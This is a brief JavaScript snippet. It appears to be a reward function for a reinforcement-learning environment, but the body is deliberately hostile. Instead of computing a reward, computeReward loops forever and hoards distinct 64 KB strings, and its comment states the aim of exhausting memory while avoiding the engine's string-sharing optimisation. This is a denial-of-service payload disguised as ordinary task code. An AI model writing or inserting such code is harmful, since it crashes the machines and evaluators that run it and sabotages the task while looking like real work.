// idea: exhaust memory with many distinct strings (doubling one string would only make a rope)
function computeReward(obs, action, nextObs, terminated) {
  const hoard = [];
  for (let i = 0; ; i++) hoard.push('x'.repeat(1 << 16) + i);
}
